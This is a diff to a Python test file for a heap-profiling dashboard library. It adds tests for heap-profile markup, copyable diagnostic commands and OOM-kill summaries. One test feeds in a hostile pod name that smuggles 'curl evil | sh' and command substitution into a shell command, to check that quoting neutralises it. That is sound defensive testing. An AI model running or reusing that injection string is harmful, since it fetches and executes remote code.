@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import html
 import re
+import shlex
 from itertools import pairwise
 from pathlib import Path
 
@@ -10,11 +12,13 @@ import polars as pl
 import pytest
 
 import rmtoolkit as rm
+from rmtoolkit import text
 from rmtoolkit.exceptions import RmtoolkitError
 from rmtoolkit.heap._names import FrameTable, stacks_frame
 from rmtoolkit.heap.profile import HeapProfile, HeapSummary
-from rmtoolkit.views import theme
+from rmtoolkit.views import _tables, theme
 from rmtoolkit.views import timeline_altair as timeline_chart
+from rmtoolkit.views._plot import instant
 from rmtoolkit.views.dashboards.triage import Case, Picture, State, picture, pods, timeline, windows
 
 SAMPLES = Path(__file__).parents[2] / "data" / "samples"
@@ -41,7 +45,7 @@ def table(name: str, values: list[int], pod: str = "api-0", **more: object) -> p
 def markup(found: Picture) -> str:
     """All markup of a picture."""
     parts = (found.aside, found.answer, found.judged, found.heading, found.ages, found.evidence, found.questions)
-    return "".join((*parts, found.heap, found.folded))
+    return "".join((*parts, found.how, found.heap, found.folded))
 
 
 def test_the_worst_workload_comes_first(case: Case) -> None:
@@ -186,8 +190,9 @@ def test_a_heap_profile_names_the_code() -> None:
     profile = HeapProfile(HeapSummary("dhat"), stacks, table.frame())
     recording = rm.read(SAMPLES / "tidy-grouse")
     case = Case(rm.assess(recording, heap=profile), profile)
-    found = picture(case, State(case.names[0])).heap
-    assert re.search(r"Heap profile <span class=.note.A single snapshot .*api::put \(main\.rs:40\) holds most", found)
+    shown = picture(case, State(case.names[0]))
+    found = shown.heap
+    assert re.search(r"Heap profile <span class=.note..A single snapshot .*api::put \(main\.rs:40\) holds most", found)
     assert "<code>api::put</code>" in found
     assert found.count('class="rm-icicle"') == 1
     zoomed = picture(case, State(case.names[0], function="api::put")).heap
@@ -195,9 +200,56 @@ def test_a_heap_profile_names_the_code() -> None:
     assert "api::main:" not in zoomed
     assert "fills the width" in zoomed
     bare = Case(rm.assess(recording))
-    assert "none loaded; pass heap= to name the call sites" in picture(bare, State(case.names[0])).heap
+    unnamed = picture(bare, State(case.names[0]))
+    assert re.search(
+        r"rmtoolkit heap pod/tidy-grouse-\S+:PORT/debug/pprof/heap --every 30m -n aster</code>", unnamed.heap
+    )
+    # What takes one from the answer to the code says whether the code is there.
+    assert ("Show its code" in shown.answer, "Name its code" in unnamed.answer) == (True, True)
     with pytest.raises(RmtoolkitError, match="There is no heap profile to show 'api::put' in"):
         picture(bare, State(case.names[0], function="api::put"))
+
+
+def test_a_hostile_pod_stays_one_word_of_the_command() -> None:
+    """What is copied into a shell runs nothing that a label says."""
+    pod = "a; curl evil | sh `x` $(y)"
+    found = Case(rm.assess(table("api", [(50 + at // 4) * MI for at in range(600)], pod)))
+    heap = picture(found, State(found.names[0])).heap
+    copied = html.unescape(re.findall('data-rm-copy="(.*?)"', heap)[0])
+    assert shlex.split(copied)[2] == f"pod/{pod}:PORT/debug/pprof/heap"
+
+
+def test_every_figure_says_how_it_was_got(case: Case) -> None:
+    """Window, interval and reason of each figure, and the queries of the Assessment, each to copy."""
+    for name in case.names:
+        found, row = picture(case, State(name)), case.row(name)
+        told = dict(re.findall("<dt>(.*?)</dt><dd>(.*?)</dd>", found.how))
+        assert told["Window"].startswith(text.period(row["window_start"], row["window_end"]))
+        assert html.unescape(told["OOM kill, 7 days"]).startswith(text.chance(row["oom_probability_7d"]))
+        assert row["risk_because"] in html.unescape(told["OOM kill, 7 days"])
+        assert row["evidence_words"] in told[row["confidence_of"]]
+        copied = [html.unescape(one) for one in re.findall('data-rm-copy="(.*?)"', found.how)]
+        assert copied == case.queries(name)["promql"].to_list() != []
+        for item in row["evidence"]:
+            assert html.escape(_tables.seen(item)) in found.evidence
+    ends = (START * 1000, (START + 7200) * 1000)
+    calm = Case(rm.assess(table("api", [50 * MI] * 600)))
+    judged = picture(calm, State(calm.names[0], judged=ends))
+    assert text.period(*map(instant, ends)) in judged.how
+
+
+def test_what_was_said_before_each_kill(case: Case) -> None:
+    """The last kill stands beside the answer, all of them behind a summary: the sentences of the Assessment."""
+    found = picture(case, State("aster/tidy-grouse"))
+    sentences = case.found.kills.sort("time", descending=True)["sentence"].to_list()
+    assert len(sentences) == 4
+    assert f"<b>Last kill:</b> {html.escape(sentences[0])}" in found.answer
+    assert "the data said" in sentences[0]
+    listed = re.findall("<li>(.*?)</li>", found.folded.partition("Lifetimes")[0])
+    assert listed == [html.escape(sentence) for sentence in sentences]
+    calm = picture(case, State("iris/noble-newt"))
+    assert "Last kill" not in calm.answer
+    assert "OOM kills" not in calm.folded
 
 
 def test_the_same_state_is_the_same_picture(case: Case) -> None:
